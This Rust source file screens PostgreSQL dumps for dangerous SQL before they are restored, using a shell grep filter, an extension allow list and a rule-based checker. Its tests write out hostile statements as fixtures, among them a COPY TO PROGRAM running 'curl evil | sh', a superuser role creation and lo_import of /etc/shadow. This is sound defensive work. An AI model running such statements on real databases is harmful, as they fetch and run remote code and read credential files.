//! What a database dump may hold. A signed dump from a compromised DC is still SQL: before it is
//! loaded, the SQL it would run (its rows left out) is read on the host and anything a director's
//! configuration backup never needs is refused: COPY to or from a program, roles and privileges,
//! changes to the server's settings, extensions off the allow list, event triggers,
//! subscriptions, foreign servers, untrusted languages and server-side file access.

/// Extensions a director's database may create; any other in a dump is refused.
pub const EXTENSIONS: &[&str] = &[
    "plpgsql",
    "pgcrypto",
    "uuid-ossp",
    "citext",
    "hstore",
    "pg_trgm",
    "btree_gin",
    "btree_gist",
    "unaccent",
    "fuzzystrmatch",
    "intarray",
    "ltree",
    "tablefunc",
    "pg_stat_statements",
];

/// The dump's SQL with the rows of its COPY blocks left out, one line at a time, on the host:
/// what `screen` reads. Only lines that could break a rule are sent back.
pub const SCRIPT_LINES: &str = r#"{ pg_restore --no-owner --no-privileges -f - "$1" || echo "PG_RESTORE_FAILED $?"; } | awk '/^PG_RESTORE_FAILED/ { print "0: " $0; next } incopy { if ($0 == "\\.") incopy = 0; next } /^COPY .* FROM stdin;$/ { incopy = 1 } { print NR ": " $0 }' | grep -i -E 'PG_RESTORE_FAILED|program|role|session authorization|alter system|extension|event trigger|subscription|server|user mapping|foreign data wrapper|language|lo_import|lo_export|pg_read_|pg_write|pg_ls_dir|dblink|pg_file_' | head -n 200; exit 0"#;

/// What a configuration backup's dump never needs, found in the lines of its SQL (rows left out):
/// each finding with its line.
pub fn screen(lines: &str) -> Vec<String> {
    let mut found = Vec::new();
    for line in lines.lines() {
        let (at, text) = line.split_once(": ").unwrap_or(("?", line));
        let t = text.trim();
        // Comments and the bodies of functions quote words; the statements that matter start a line.
        let upper = t.to_ascii_uppercase();
        if upper.starts_with("--") {
            continue;
        }
        let words: Vec<&str> = upper.split_whitespace().collect();
        let starts =
            |prefix: &[&str]| words.len() >= prefix.len() && words[..prefix.len()] == *prefix;
        let runs_program = words.windows(2).any(|w| {
            matches!(w[0], "TO" | "FROM") && w[1].trim_start_matches('(').starts_with("PROGRAM")
        });
        let why = if runs_program {
            Some("a COPY that runs a program")
        } else if starts(&["CREATE", "ROLE"])
            || starts(&["ALTER", "ROLE"])
            || starts(&["DROP", "ROLE"])
            || starts(&["CREATE", "USER"])
            || starts(&["ALTER", "USER"])
            || starts(&["SET", "ROLE"])
            || starts(&["SET", "SESSION", "AUTHORIZATION"])
            || starts(&["GRANT"])
        {
            Some("a role or a privilege")
        } else if starts(&["ALTER", "SYSTEM"]) {
            Some("a change to the server's settings")
        } else if starts(&["CREATE", "EXTENSION"]) {
            let name = words
                .iter()
                .skip(2)
                .find(|w| !matches!(**w, "IF" | "NOT" | "EXISTS"))
                .map(|w| {
                    w.trim_matches(|c| c == '"' || c == ';')
                        .to_ascii_lowercase()
                })
                .unwrap_or_default();
            (!EXTENSIONS.contains(&name.as_str())).then_some("an extension off the allow list")
        } else if starts(&["CREATE", "EVENT", "TRIGGER"])
            || starts(&["CREATE", "SUBSCRIPTION"])
            || starts(&["CREATE", "SERVER"])
            || starts(&["CREATE", "USER", "MAPPING"])
            || starts(&["CREATE", "FOREIGN", "DATA", "WRAPPER"])
            || starts(&["CREATE", "LANGUAGE"])
            || starts(&["CREATE", "OR", "REPLACE", "LANGUAGE"])
            || starts(&["CREATE", "TRUSTED", "LANGUAGE"])
        {
            Some("an event trigger, subscription, foreign server or language")
        } else if [
            "LO_IMPORT",
            "LO_EXPORT",
            "PG_READ_",
            "PG_WRITE",
            "PG_LS_DIR",
            "PG_FILE_",
        ]
        .iter()
        .any(|f| upper.contains(f))
            || (words.first() == Some(&"LANGUAGE")
                && words.get(1).is_some_and(|l| {
                    let l = l.trim_matches(|c| c == ';' || c == '\'');
                    matches!(
                        l,
                        "C" | "PLPYTHONU" | "PLPYTHON3U" | "PLPERLU" | "PLTCLU" | "PLSH"
                    )
                }))
        {
            Some("server file access or an untrusted language")
        } else {
            None
        };
        if let Some(why) = why {
            let shown: String = t.chars().take(120).collect();
            found.push(format!("line {at}: {why}: {shown}"));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_screen_finds_what_a_dump_never_needs() {
        let bad = [
            "12: COPY public.t (a) TO PROGRAM 'curl evil | sh';",
            "13: CREATE ROLE attacker SUPERUSER;",
            "14: CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;",
            "15: CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f();",
            "16: ALTER SYSTEM SET archive_command = 'sh -c evil';",
            "17: SELECT lo_import('/etc/shadow');",
            "18: CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;",
            "19:     LANGUAGE plpython3u",
            "20: SET SESSION AUTHORIZATION postgres;",
        ];
        let found = screen(&bad.join("\n"));
        assert_eq!(found.len(), bad.len(), "{found:#?}");
        let fine = [
            "3: CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public;",
            "4: COMMENT ON EXTENSION pgcrypto IS 'cryptographic functions';",
            "5: -- Name: program; Type: TABLE; Schema: public",
            "6: CREATE TABLE public.program (id integer, role text);",
            "7:     LANGUAGE plpgsql",
            "8: COPY public.program (id, role) FROM stdin;",
        ];
        assert!(
            screen(&fine.join("\n")).is_empty(),
            "{:?}",
            screen(&fine.join("\n"))
        );
    }
}
